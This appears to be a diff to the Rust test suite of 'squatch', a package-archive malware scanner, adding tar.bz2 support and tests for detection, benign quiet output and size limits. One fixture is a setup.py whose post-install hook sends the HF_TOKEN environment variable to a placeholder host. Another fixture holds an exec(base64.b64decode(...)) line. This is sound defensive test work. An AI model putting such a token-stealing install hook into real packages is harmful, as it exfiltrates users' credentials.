@@ -34,6 +34,16 @@ fn targz(files: &[(&str, &[u8])]) -> Vec<u8> {
     tar.into_inner().unwrap().finish().unwrap()
 }
 
+/// A `.tar.bz2` sdist built like [`targz`].
+fn tarbz2(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let raw = targz(files);
+    let mut tar = Vec::new();
+    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
+    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
+    bz.write_all(&tar).unwrap();
+    bz.finish().unwrap()
+}
+
 fn ids(scan: &squatch::findings::archive::ArchiveScan) -> Vec<(String, String)> {
     scan.findings
         .iter()
@@ -199,10 +209,11 @@ fn corrupt_and_unknown_archives_give_a_finding_not_a_panic() {
         &Limits::default(),
     );
     assert!(!scan.findings.is_empty());
+    // xz is not read: one row says so.
     let scan = scan_archive(
         RuleSet::builtin(),
-        "pkg-1.0.tar.bz2",
-        b"BZh91AY&SY",
+        "pkg-1.0.tar.xz",
+        b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46",
         &Limits::default(),
     );
     assert_eq!(
@@ -247,4 +258,119 @@ fn symlink_inside_the_archive_is_fine_outside_is_not() {
         .collect();
     assert_eq!(hits.len(), 1, "{:?}", ids(&scan));
     assert!(hits[0].finding.evidence.contains("b.rst"));
+}
+
+const HOOK_SETUP_PY: &[u8] = br#"raise SystemExit("squatch test fixture: read as text, never run")
+from setuptools import setup
+from setuptools.command.install import install
+import os, urllib.request
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        urllib.request.urlopen("https://collector.invalid/i?d=" + os.environ.get("HF_TOKEN", ""))
+
+setup(name="oldpkg", version="0.1", cmdclass={"install": PostInstall})
+"#;
+
+#[test]
+fn tar_bz2_sdist_is_read_like_tar_gz() {
+    let sdist = tarbz2(&[
+        ("oldpkg-0.1/setup.py", HOOK_SETUP_PY),
+        ("oldpkg-0.1/oldpkg/__init__.py", b"x = 1\n"),
+    ]);
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "oldpkg-0.1.tar.bz2",
+        &sdist,
+        &Limits::default(),
+    );
+    let found = ids(&scan);
+    assert!(
+        found
+            .iter()
+            .any(|(m, id)| m == "oldpkg-0.1/setup.py" && id == "combo-install-hook-network"),
+        "{found:?}"
+    );
+    assert_eq!(scan.package.as_deref(), Some("oldpkg"));
+    assert_eq!(scan.scanned, 2);
+    // Sniffed by content whatever the name says.
+    let renamed = scan_archive(RuleSet::builtin(), "download", &sdist, &Limits::default());
+    assert_eq!(ids(&renamed), found);
+}
+
+#[test]
+fn benign_tar_bz2_sdist_stays_quiet() {
+    let sdist = tarbz2(&[
+        (
+            "plain-1.0/setup.py",
+            b"from setuptools import setup\nsetup(name='plain', version='1.0')\n",
+        ),
+        ("plain-1.0/plain/__init__.py", b"def hi():\n    return 1\n"),
+    ]);
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "plain-1.0.tar.bz2",
+        &sdist,
+        &Limits::default(),
+    );
+    assert!(
+        scan.findings
+            .iter()
+            .all(|f| f.finding.severity < squatch::findings::Severity::Medium),
+        "{:?}",
+        ids(&scan)
+    );
+    assert_eq!(scan.scanned, 2);
+}
+
+#[test]
+fn tar_bz2_bomb_and_corruption_hit_the_same_limits() {
+    let zeros = vec![b'a'; 4 * 1024 * 1024];
+    let sdist = tarbz2(&[
+        ("pkg-1.0/big.txt", &zeros),
+        ("pkg-1.0/setup.py", b"exec(base64.b64decode(x))\n"),
+    ]);
+    let small = Limits {
+        max_total_bytes: 1024 * 1024,
+        ..Limits::default()
+    };
+    for limits in [small, Limits::default()] {
+        let scan = scan_archive(RuleSet::builtin(), "pkg-1.0.tar.bz2", &sdist, &limits);
+        assert!(
+            ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
+            "{:?}",
+            ids(&scan)
+        );
+        assert!(!ids(&scan).iter().any(|(m, _)| m.ends_with("setup.py")));
+    }
+    let names: Vec<String> = (0..50).map(|i| format!("pkg/m{i}.txt")).collect();
+    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
+    let many = Limits {
+        max_entries: 10,
+        ..Limits::default()
+    };
+    let scan = scan_archive(RuleSet::builtin(), "pkg.tar.bz2", &tarbz2(&files), &many);
+    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));
+
+    let mut cut = tarbz2(&[("pkg-1.0/setup.py", HOOK_SETUP_PY)]);
+    cut.truncate(cut.len() / 2);
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "pkg-1.0.tar.bz2",
+        &cut,
+        &Limits::default(),
+    );
+    assert!(
+        ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
+        "{:?}",
+        ids(&scan)
+    );
+    let scan = scan_archive(
+        RuleSet::builtin(),
+        "pkg-1.0.tar.bz2",
+        b"BZh91AY&SY",
+        &Limits::default(),
+    );
+    assert!(!scan.findings.is_empty());
 }
